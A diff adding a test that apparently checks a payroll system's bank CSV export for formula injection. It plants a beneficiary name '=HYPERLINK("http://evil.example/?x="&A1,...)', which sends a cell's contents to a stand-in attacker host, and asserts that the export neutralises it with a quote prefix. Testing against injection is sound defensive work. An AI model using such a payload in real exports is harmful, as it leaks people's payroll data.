@@ -46,3 +46,37 @@ test('the import report CSV does not echo a +cmd|... cell as a formula', () => {
   assert.equal(rows[1]![4], `'=Bad: sai`);
   for (const row of rows) for (const c of row) assert.doesNotMatch(c, /^[=+\-@\t\r]/);
 });
+
+test('over HTTP: a beneficiary named =HYPERLINK(...) is neutralised in the payroll bank CSV', async () => {
+  const { testApp } = await import('../../test/helpers/app.ts');
+  const { createTestUser, sessionHeaders } = await import('../access/testing.ts');
+  const { loadActor } = await import('../access/store.ts');
+  const { withActor } = await import('../access/scope.ts');
+  const reg = await import('../registry/store.ts');
+  const pay = await import('../payments/store.ts');
+  const t = await testApp();
+  try {
+    const officerId = await createTestUser(t.db, { username: 'csv-officer', role: 'officer', unitCode: '03439' });
+    const headers = await sessionHeaders(t.db, officerId);
+    const commune = (await reg.communeByCode(t.db.k, '03439'))!;
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")';
+    const person = { personalId: null, fullName: evil, dateOfBirth: '1938-01-01', sex: 'M', ethnicCode: '35', relation: 'head', disability: 'none', pension: false,
+      socialInsurance: 'none', healthInsurance: true, schooling: 'none', conditions: [], merit: false } as unknown as Parameters<typeof reg.registerHousehold>[3][number];
+    const home = { code: 'CSV-1', villageId: null, address: '', area: 'rural' as const, incomePerMonth: 3_000_000, deprivations: {}, disadvantagedArea: false, merit: false };
+    const { personIds } = await reg.registerHousehold(t.db.k, commune, home, [person], { by: 'test', reason: 'kiểm thử' });
+    await pay.createDecision(t.db.k, { personId: personIds[0]!, number: '9/QĐ-UBND', decidedOn: '2026-09-01', signer: 'x', kind: 'start', startMonth: 202609, channel: 'bank', account: '+0011223344' }, 'test');
+    const actor = (await loadActor(t.db.k, officerId))!;
+    const summary = await withActor(t.db, actor, (tx) => pay.generatePayroll(tx, commune.id, 202609, 'csv-officer'));
+    const r = await t.app.inject({ method: 'GET', url: `/api/payments/payrolls/${summary.payrollId}/export?format=bank-csv`, headers });
+    assert.equal(r.statusCode, 200, r.body);
+    assert.equal(r.headers['cache-control'], 'no-store');
+    const rows = rowsOf(r.body);
+    const line = rows.find((x) => x[2]!.includes('HYPERLINK'));
+    assert.ok(line, r.body);
+    assert.equal(line[2], `'${evil}`);
+    assert.match(line[3]!, /^\d+$/, 'the amount stays a number');
+    for (const row of rows) for (const c of row) assert.doesNotMatch(c, /^[=+\-@\t\r]/);
+  } finally {
+    await t.close();
+  }
+});
